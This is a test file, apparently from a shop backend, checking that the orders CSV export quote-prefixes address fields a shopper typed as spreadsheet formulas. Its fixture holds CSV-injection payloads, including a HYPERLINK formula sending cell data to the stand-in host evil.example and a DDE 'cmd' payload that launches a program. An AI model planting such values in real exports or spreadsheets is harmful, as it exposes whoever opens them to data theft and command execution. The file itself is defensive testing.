import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/app.ts';
import { insertCartLine, insertProduct, orderPayload, shopper, testAddress } from '../../../test/commerce.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const HOSTILE_ADDRESS = {
  ...testAddress,
  name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  street: "=cmd|' /C calc'!A0",
  city: '+SUM(1,1)',
  // Still a state the checkout matches by name (docs/product.md, Delivery), typed as a formula.
  state: '@Maharashtra',
};

describe('the orders CSV', () => {
  it('puts a quote before every address cell a shopper typed as a formula, and leaves the numbers plain', async () => {
    const me = await shopper(t.db);
    const admin = await shopper(t.db, 'admin');
    const p = await insertProduct(t.db, { title: '-Festive Silk', price: 1500, discountPercentage: 0 });
    await insertCartLine(t.db, me.user.id, p.id, 2);
    const placed = await t.app.inject({
      method: 'POST',
      url: '/api/orders',
      headers: { cookie: me.cookie },
      payload: orderPayload('cash', { selectedAddress: HOSTILE_ADDRESS }),
    });
    expect(placed.statusCode, placed.body).toBe(201);

    const res = await t.app.inject({ url: '/api/orders/export', headers: { cookie: admin.cookie } });
    expect(res.statusCode, res.body).toBe(200);
    const [row] = parse(res.body, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      id: String(placed.json<{ id: number }>().id),
      totalAmount: '3000',
      totalItems: '2',
      'selectedAddress.name': `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      'selectedAddress.street': "'=cmd|' /C calc'!A0",
      'selectedAddress.city': "'+SUM(1,1)",
      'selectedAddress.state': "'@Maharashtra",
      'selectedAddress.phone': `'${testAddress.phone}`,
      items: '2 × -Festive Silk (#aa2233, 42 in)',
    });
  });
});
